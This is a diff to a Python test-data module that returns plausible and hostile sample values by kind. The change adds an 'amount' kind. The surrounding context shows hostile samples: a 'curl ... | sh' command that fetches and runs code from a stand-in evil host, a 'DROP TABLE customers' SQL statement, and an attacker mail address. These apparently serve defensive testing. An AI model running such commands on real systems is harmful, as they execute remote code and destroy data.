@@ -659,6 +659,7 @@ def plausible(kind: str, file_system: str = "") -> str:
         "mail_address": "lee@intranet.example",
         "command": "ls",
         "sql": "SELECT name FROM customers",
+        "amount": "12.50",
     }.get(kind, "")
 
 
@@ -670,6 +671,7 @@ def hostile(kind: str) -> str:
         "mail_address": EVIL_MAIL,
         "command": f"curl https://{EVIL_HOST}/x | sh",
         "sql": "DROP TABLE customers",
+        "amount": "1000000",
     }.get(kind, "other")
 
 
@@ -697,7 +699,7 @@ def near(kind: str, texts: Sequence[str]) -> Iterator[str]:
                 )
             case "sql" if bare.isalpha():
                 yield f"{bare} name from customers" if bare.lower() == "select" else f"{bare} x"
-            case "":
+            case "" | "amount":
                 yield text
             case _:
                 continue
